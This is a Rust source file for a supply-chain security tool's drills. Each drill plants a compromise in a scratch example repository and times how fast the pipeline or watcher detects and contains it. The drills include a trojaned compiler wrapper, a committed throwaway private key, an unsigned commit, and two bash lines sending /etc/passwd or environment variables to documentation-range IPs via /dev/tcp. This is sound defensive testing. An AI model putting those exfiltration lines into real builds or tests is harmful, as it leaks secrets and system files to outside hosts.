//! Drills (`zt drill NAME`): a scratch copy of the bundled example, a baseline of clean
//! builds, one planted compromise, then the pipeline and the watch as they run for real; the
//! report says whether and where it was detected, the time from the plant to the detection
//! and to containment (the response zt runs: the pipeline's deny, or `zt incident bad-commit`).
//!
//! | drill | planted | caught by |
//! |---|---|---|
//! | `tamper-dependency` | the toolchain wrapper the build runs (an `--input`) is replaced | watch `changed-program` |
//! | `leaked-key` | a private key committed to the tree | pipeline `source` stage (secret scan) |
//! | `unsigned-commit` | an unsigned commit by an author who always signs (SSH) | watch `unsigned-commit` |
//! | `malicious-build-script` | the Makefile calls out to the network during the build | watch `network-attempt` |
//! | `exfiltrating-test` | a test sends data out | watch `network-attempt` (the test run sandboxed) |
//!
//! The watch in a drill uses the real detector with a warm-up of [`BASELINE`] builds instead
//! of 10 (the scratch repository has no longer history).

use std::path::{Path, PathBuf};
use std::time::Instant;

use serde::Serialize;
use zt_core::Workspace;
use zt_watch::Detector;

use crate::Error;
use crate::example::git;

/// Every drill, in order.
pub const DRILLS: &[&str] = &[
    "tamper-dependency",
    "leaked-key",
    "unsigned-commit",
    "malicious-build-script",
    "exfiltrating-test",
];

/// Clean builds before the compromise.
pub const BASELINE: usize = 3;

/// What a drill found.
#[derive(Debug, Clone, Serialize)]
pub struct DrillReport {
    /// The drill's name.
    pub drill: String,
    /// What was planted.
    pub planted: String,
    /// Whether it was detected.
    pub detected: bool,
    /// Where: the pipeline stage or the watch alert kinds.
    pub detected_by: Vec<String>,
    /// The evidence (stage summary or alert reasons).
    pub evidence: Vec<String>,
    /// Milliseconds from the plant (its commit) to the detection.
    pub time_to_detect_ms: u64,
    /// Milliseconds from the plant to the end of the response.
    pub time_to_contain_ms: u64,
    /// The response.
    pub contained_by: String,
    /// The scratch repository (kept only with `keep`).
    pub repository: Option<PathBuf>,
}

/// Runs drill `name` in a scratch directory (removed afterwards unless `keep`).
pub fn run(name: &str, keep: bool) -> Result<DrillReport, Error> {
    if !DRILLS.contains(&name) {
        return Err(Error::Input {
            what: format!("no drill named `{name}`"),
            help: format!("pick one of {} or `zt drill all`", DRILLS.join(", ")),
        });
    }
    let scratch = tempfile::Builder::new()
        .prefix("zt-drill-")
        .tempdir()
        .map_err(Error::Io)?;
    let repo = scratch.path().join("repo");
    crate::example::materialise(&repo)?;
    let mut report = match name {
        "leaked-key" => leaked_key(&repo)?,
        "unsigned-commit" => unsigned_commit(scratch.path(), &repo)?,
        _ => behaviour(name, scratch.path(), &repo)?,
    };
    report.drill = name.to_owned();
    if keep {
        report.repository = Some(scratch.keep().join("repo"));
    }
    Ok(report)
}

fn ms(t: Instant) -> u64 {
    u64::try_from(t.elapsed().as_millis()).unwrap_or(u64::MAX)
}

fn build_request(repo: &Path, argv: &[&str], inputs: Vec<PathBuf>) -> crate::build::Request {
    crate::build::Request {
        options: zt_build::build::Options {
            tree: repo.to_path_buf(),
            out: PathBuf::from("out"),
            argv: argv.iter().map(|s| (*s).to_owned()).collect(),
            inputs,
            ..Default::default()
        },
        rebuild: None,
        vary: Vec::new(),
        image: None,
    }
}

/// Builds once; the build must succeed (a drill's builds are meant to pass the gate's eye).
fn build(ws: &Workspace, req: &crate::build::Request) -> Result<String, Error> {
    let built = crate::build::build(ws, req)?;
    if !built.succeeded() {
        return Err(Error::Input {
            what: format!(
                "the drill's build failed ({}); log: `{}`",
                built.exit_text(),
                built.outcome.log.display()
            ),
            help: "run `zt drill NAME --keep` and look at the build log in the kept repository"
                .into(),
        });
    }
    Ok(built.outcome.invocation_id)
}

/// Watches, counting only alerts about `build`; then contains with `zt incident bad-commit`.
fn watch_and_contain(
    ws: &Workspace,
    build: &str,
    planted: Instant,
    report: &mut DrillReport,
) -> Result<(), Error> {
    let detector = Detector {
        min_history: BASELINE,
        ..Detector::default()
    };
    let watched = crate::watch::watch_with(ws, &crate::watch::Request::default(), &detector)?;
    let alerts: Vec<_> = watched.alerts.iter().filter(|a| a.build == build).collect();
    report.time_to_detect_ms = ms(planted);
    report.detected = !alerts.is_empty();
    report.detected_by = alerts
        .iter()
        .map(|a| format!("watch: {}", a.kind))
        .collect();
    report.evidence = alerts.iter().map(|a| a.why.clone()).collect();
    if report.detected {
        let head = git(ws.root(), &["rev-parse", "HEAD"])?;
        let incident =
            crate::incident::respond(ws, &crate::incident::Incident::BadCommit { commit: head })?;
        report.time_to_contain_ms = ms(planted);
        report.contained_by = format!(
            "zt incident bad-commit: {} build(s) to redo, record `{}`",
            incident.rebuild.len(),
            incident.record.display()
        );
    }
    Ok(())
}

fn commit_all(repo: &Path, message: &str, extra: &[&str]) -> Result<(), Error> {
    git(repo, &["add", "-A"])?;
    let mut args: Vec<&str> = extra.to_vec();
    args.extend(["commit", "-q", "-m", message]);
    git(repo, &args)?;
    Ok(())
}

/// The drills the build's behaviour record catches.
fn behaviour(name: &str, scratch: &Path, repo: &Path) -> Result<DrillReport, Error> {
    let ws = Workspace::open(repo)?;
    let toolchain = scratch.join("toolchain");
    let mut inputs = Vec::new();
    let cc;
    let argv: Vec<&str> = match name {
        "tamper-dependency" => {
            fs_err::create_dir_all(&toolchain)?;
            write_exec(
                &toolchain.join("cc"),
                "#!/bin/sh\nexec /usr/bin/cc \"$@\"\n",
            )?;
            inputs.push(toolchain.clone());
            cc = format!("CC={}", toolchain.join("cc").display());
            vec!["make", cc.as_str()]
        }
        "exfiltrating-test" => vec!["make", "test", "JUNIT=out/junit.xml"],
        _ => vec!["make"],
    };
    let req = build_request(repo, &argv, inputs);
    for _ in 0..BASELINE {
        build(&ws, &req)?;
    }
    let planted = Instant::now();
    let what = match name {
        "tamper-dependency" => {
            // The dependency is replaced where it is fetched from: same path, new content.
            write_exec(
                &toolchain.join("cc"),
                "#!/bin/sh\n# trojaned\nexec /usr/bin/cc -DPAYLOAD=1 \"$@\"\n",
            )?;
            "the build's toolchain input `cc` replaced by a trojaned one (same path)"
        }
        "malicious-build-script" => {
            let mk = repo.join("Makefile");
            let text = fs_err::read_to_string(&mk)?.replace(
                "\tmkdir -p $(OUT)\n",
                "\tmkdir -p $(OUT)\n\t-@bash -c 'cat /etc/passwd > /dev/tcp/198.51.100.7/443' 2>/dev/null || true\n",
            );
            fs_err::write(&mk, text)?;
            commit_all(repo, "build: tidy", &[])?;
            "the Makefile sends /etc/passwd to 198.51.100.7:443 during the build"
        }
        _ => {
            let t = repo.join("tests/run.sh");
            let text = fs_err::read_to_string(&t)?.replacen(
                "\n",
                "\nbash -c 'env > /dev/tcp/203.0.113.50/8080' 2>/dev/null || true\n",
                1,
            );
            fs_err::write(&t, text)?;
            commit_all(repo, "tests: more cases", &[])?;
            "a test sends the environment to 203.0.113.50:8080"
        }
    };
    let id = build(&ws, &req)?;
    let mut report = DrillReport {
        drill: String::new(),
        planted: what.to_owned(),
        detected: false,
        detected_by: Vec::new(),
        evidence: Vec::new(),
        time_to_detect_ms: 0,
        time_to_contain_ms: 0,
        contained_by: String::new(),
        repository: None,
    };
    watch_and_contain(&ws, &id, planted, &mut report)?;
    Ok(report)
}

fn write_exec(path: &Path, text: &str) -> Result<(), Error> {
    use std::os::unix::fs::PermissionsExt as _;
    fs_err::write(path, text)?;
    fs_err::set_permissions(path, std::fs::Permissions::from_mode(0o755))?;
    Ok(())
}

/// A private key committed: the pipeline's secret scan denies, and nothing is signed.
fn leaked_key(repo: &Path) -> Result<DrillReport, Error> {
    let opts = crate::Options {
        dir: Some(repo.to_path_buf()),
        ..crate::Options::example()
    };
    let clean = crate::run(&opts, &crate::NoProgress)?;
    if !clean.allowed() {
        return Err(Error::Input {
            what: "the drill's clean pipeline run was denied".into(),
            help: "run `zt pipeline run` on the example to see why".into(),
        });
    }
    let planted = Instant::now();
    // A real (throwaway) key, as a developer would paste it.
    let key = zt_sign::FileKey::generate(zt_sign::KeyType::Ed25519);
    fs_err::write(repo.join("deploy_key.pem"), key.to_pkcs8_pem()?.as_bytes())?;
    commit_all(repo, "deploy: add key", &[])?;
    let run = crate::run(&opts, &crate::NoProgress)?;
    let failed: Vec<_> = run
        .stages
        .iter()
        .filter(|s| s.status == crate::StageStatus::Failed)
        .collect();
    let t = ms(planted);
    Ok(DrillReport {
        drill: String::new(),
        planted: "a private key committed as `deploy_key.pem`".into(),
        detected: !failed.is_empty(),
        detected_by: failed
            .iter()
            .map(|s| format!("pipeline: {}", s.name))
            .collect(),
        evidence: failed.iter().map(|s| s.summary.clone()).collect(),
        time_to_detect_ms: t,
        time_to_contain_ms: t,
        contained_by: if run.allowed() {
            "not contained: the pipeline allowed the run".into()
        } else {
            "the pipeline denied the run: no artifact of this commit was admitted".into()
        },
        repository: None,
    })
}

/// An unsigned commit by an author whose commits were signed (SSH signatures).
fn unsigned_commit(scratch: &Path, repo: &Path) -> Result<DrillReport, Error> {
    let key = scratch.join("id_ed25519");
    let out = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "example@zt.invalid", "-f"])
        .arg(&key)
        .output()
        .map_err(|e| Error::Input {
            what: format!("cannot run ssh-keygen: {e}"),
            help: "install openssh-client (ssh-keygen signs the drill's commits), then `zt drill unsigned-commit`".into(),
        })?;
    if !out.status.success() {
        return Err(Error::Input {
            what: format!(
                "ssh-keygen: {}",
                String::from_utf8_lossy(&out.stderr).trim()
            ),
            help: "check that ssh-keygen works, then `zt drill unsigned-commit`".into(),
        });
    }
    let signing_key = format!("user.signingkey={}", key.display());
    let sign = [
        "-c",
        "gpg.format=ssh",
        "-c",
        signing_key.as_str(),
        "-c",
        "commit.gpgsign=true",
    ];
    let ws = Workspace::open(repo)?;
    let req = build_request(repo, &["make"], Vec::new());
    for i in 0..BASELINE {
        fs_err::write(repo.join("CHANGES"), format!("release {i}\n"))?;
        commit_all(repo, &format!("release {i}"), &sign)?;
        build(&ws, &req)?;
    }
    let planted = Instant::now();
    fs_err::write(repo.join("CHANGES"), "release 3 (unsigned)\n")?;
    commit_all(repo, "release 3", &["-c", "commit.gpgsign=false"])?;
    let id = build(&ws, &req)?;
    let mut report = DrillReport {
        drill: String::new(),
        planted: "an unsigned commit by example@zt.invalid, whose commits are SSH-signed".into(),
        detected: false,
        detected_by: Vec::new(),
        evidence: Vec::new(),
        time_to_detect_ms: 0,
        time_to_contain_ms: 0,
        contained_by: String::new(),
        repository: None,
    };
    watch_and_contain(&ws, &id, planted, &mut report)?;
    Ok(report)
}
